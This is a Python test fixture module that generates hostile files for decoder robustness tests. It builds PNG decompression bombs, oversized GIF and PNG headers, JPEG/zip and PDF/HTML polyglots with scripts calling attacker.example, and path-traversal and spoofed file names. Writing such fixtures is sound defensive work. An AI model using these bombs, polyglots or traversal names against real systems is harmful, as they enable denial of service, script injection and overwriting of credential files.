"""Hostile files, made in code (no binary blobs in the repository): what an adversary sends to break
decoders, and the file names they choose. Used by tests/core/test_isolation.py and the reliability
suite's hostile corpus."""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
import zlib

from PIL import Image

from tests.helpers import png_bytes


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_dimension_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few hundred bytes that declare ten gigapixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096)) + _png_chunk(b"IEND", b""))


def decompression_bomb(side: int = 30_000) -> bytes:
    """A real bomb: side x side RGB of zeros (2.7 GB decoded at 30,000) in ~1/1000 of that in zlib."""
    raw = zlib.compressobj(9)
    row = b"\x00" * (1 + 3 * side)
    body = b"".join(raw.compress(row) for _ in range(side)) + raw.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b"")


def huge_dimension_gif(side: int = 65_535) -> bytes:
    """A GIF whose screen and one frame declare side x side pixels (4 gigapixels), with 1 pixel of data."""
    screen = struct.pack("<6sHHBBB", b"GIF89a", side, side, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, side, side, 0) + b"\x02\x02\x4c\x01\x00"
    return screen + frame + b";"


def jpeg_bytes(width: int = 120, height: int = 90) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 60, 90)).save(out, "JPEG", quality=90)
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG that is also a valid zip (a script inside): viewers show a photo, unzip extracts."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload/run.html", "<script>fetch('https://attacker.example/x')</script>")
    return jpeg_bytes() + archive.getvalue()


def pdf_html_polyglot() -> bytes:
    """Starts as a PDF, and a browser renders it as HTML with a script."""
    return (b"%PDF-1.4\n%<html><body><script>document.location='https://attacker.example/'</script>\n"
            b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"trailer << /Root 1 0 R >>\n</body></html>\n%%EOF\n")


def hostile_media() -> dict[str, bytes]:
    """One of each kind of content that breaks decoders, by a plain name saying what it is."""
    png, jpeg = png_bytes(300, 200), jpeg_bytes(400, 300)
    return {
        "bomb.png": decompression_bomb(20_000),  # 1.2 GB decoded, ~1.2 MB here
        "truncated.jpg": jpeg[: len(jpeg) // 2],
        "truncated.png": png[: len(png) // 2],
        "photo-and-zip.jpg": jpeg_zip_polyglot(),
        "pdf-and-html.pdf": pdf_html_polyglot(),
        "huge.gif": huge_dimension_gif(),
        "empty.png": b"",
    }


# Names the file system accepts (Linux and macOS take all of these), for the CLI...
NFC_NAME = "Şəkil ünvan.png"
FILESYSTEM_NAMES = (
    "C:\\Windows\\x.png",
    "line\r\nbreak.png",
    "invoice\u202egnp.exe",
    NFC_NAME,
    unicodedata.normalize("NFD", NFC_NAME),
    "CON",
    "lpt1.txt",
)
# ...and names only the core API can be given (a path part, NUL, longer than a file system allows).
API_NAMES = (
    "../x.png",
    "../../.ssh/authorized_keys",
    "a\x00b.png",
    "ş" * 150 + ".png",  # 304 bytes of UTF-8
    "\udcff\udcfeundecodable.png",  # bytes of another encoding, as os.fsdecode gives them
)
